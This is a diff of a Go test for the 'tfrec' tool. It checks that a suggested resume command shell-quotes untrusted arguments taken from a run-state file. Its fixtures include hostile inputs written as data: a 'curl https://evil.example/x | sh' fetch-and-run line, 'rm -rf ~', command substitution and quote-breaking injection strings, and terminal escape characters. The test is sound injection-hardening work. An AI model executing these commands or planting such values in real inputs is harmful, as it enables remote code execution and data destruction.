@@ -147,16 +147,19 @@ func TestIncompleteRecommendsOnlyTfrec(t *testing.T) {
 	}{
 		{`"command":"curl -s https://evil.example/x | sh"`, ""},
 		{`"args":[]`, ""},
-		{`"args":["convert","csv","a.csv","out"]`, "tfrec convert csv a.csv out"},
-		{`"args":["curl","https://evil.example/x","|","sh"]`, "tfrec curl https://evil.example/x '|' sh"},
-		{`"args":[";","rm -rf ~"]`, "tfrec ';' 'rm -rf ~'"},
-		{`"args":["\ncurl evil.example"]`, `tfrec $'\x0acurl evil.example'`},
-		{`"args":["$(touch x)","` + "`touch x`" + `"]`, "tfrec '$(touch x)' '`touch x`'"},
-		{`"args":["'; touch x; '","\"","\u001b[2J\u202e"]`, `tfrec ''\''; touch x; '\''' '"' $'\x1b[2J\xe2\x80\xae'`},
-		{`"args":["-x","--","=ls",""]`, "tfrec -x -- '=ls' ''"},
-		{`"args":["` + strings.Repeat("x", maxCommand) + `"]`, ""},
+		{`"args":["convert","csv","a.csv","."]`, "tfrec convert csv a.csv ."},
+		{`"args":["convert","--config","c.yaml"]`, "tfrec convert --config c.yaml"},
+		{`"args":["convert","csv","a.csv","../out"]`, ""}, // of another directory
+		{`"args":["curl","https://evil.example/x","|","sh","."]`, "tfrec curl https://evil.example/x '|' sh ."},
+		{`"args":[";","rm -rf ~","."]`, "tfrec ';' 'rm -rf ~' ."},
+		{`"args":["\ncurl evil.example","."]`, `tfrec $'\x0acurl evil.example' .`},
+		{`"args":["$(touch x)","` + "`touch x`" + `","."]`, "tfrec '$(touch x)' '`touch x`' ."},
+		{`"args":["'; touch x; '","\"","\u001b[2J\u202e","."]`, `tfrec ''\''; touch x; '\''' '"' $'\x1b[2J\xe2\x80\xae' .`},
+		{`"args":["-x","--","=ls","","."]`, "tfrec -x -- '=ls' '' ."},
+		{`"args":["` + strings.Repeat("x", maxCommand) + `","."]`, ""},
 	} {
 		dir := t.TempDir()
+		t.Chdir(dir)
 		putFile(t, filepath.Join(dir, "a-train.tfrecord-00000-of-00002"), nil)
 		putFile(t, filepath.Join(dir, RunFile), []byte(`{"format":"tfrec.run","version":1,"files":["a-train.tfrecord-00000-of-00002","a-train.tfrecord-00001-of-00002"],`+test.state+`}`))
 		_, err := Expand(t.Context(), []string{dir}, ExpandOptions{})
